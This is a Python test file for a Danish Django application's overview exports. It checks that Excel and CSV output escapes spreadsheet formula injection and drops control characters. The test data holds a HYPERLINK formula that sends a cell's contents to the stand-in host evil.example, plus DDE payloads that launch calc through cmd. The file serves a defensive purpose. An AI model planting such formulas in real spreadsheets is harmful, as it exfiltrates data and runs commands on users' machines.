"""The overview's exports hold text and numbers, never a formula, and survive any stored text."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from kompetencedialog.processes.services import send_plan
from tests import factories
from tests.conftest import client_for
from tests.overview import worlds

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Klik her")'


def url(name, organisation, **kwargs):
    return reverse(f"overview:{name}", kwargs={"organisation_id": organisation.pk, **kwargs})


def _sent(world, title):
    process = factories.make_process(world.institution, title=title)
    send_plan(process=process, by=world.leader)
    return process


def _book(world):
    response = client_for(world.administration).get(url("export", world.municipality))
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def _texts(book) -> list[str]:
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def test_a_formula_in_a_plan_and_an_institution_name_stays_text(world, toolkit):
    worlds.build(world)
    _sent(world, EVIL)
    factories.make_organisation("+cmd|' /C calc'!A0", parent=world.area)

    book = _book(world)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = _texts(book)
    assert "'" + EVIL in texts
    assert "'+cmd|' /C calc'!A0" in texts
    counts = [c.value for c in cells if c.data_type == "n" and c.value is not None]
    assert counts, "numbers stay numbers"


def test_the_csv_prefixes_what_a_spreadsheet_would_evaluate(world, toolkit):
    worlds.build(world)
    _sent(world, "-2+3+cmd|' /C calc'!A0")
    response = client_for(world.administration).get(
        url("export_table", world.municipality, table="plans", fmt="csv")
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    titles = [row[1] for row in rows[1:]]
    assert "'-2+3+cmd|' /C calc'!A0" in titles
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_a_vertical_tab_in_a_sent_plan_or_a_goal_does_not_break_the_workbook(world, toolkit):
    worlds.build(world)
    _sent(world, "Ro\x0bog nærvær")
    factories.make_goal(world.municipality, "Trivsel\x0bfor alle\x01")

    texts = _texts(_book(world))
    assert "Ro\nog nærvær" in texts
    assert "Trivsel\nfor alle" in texts
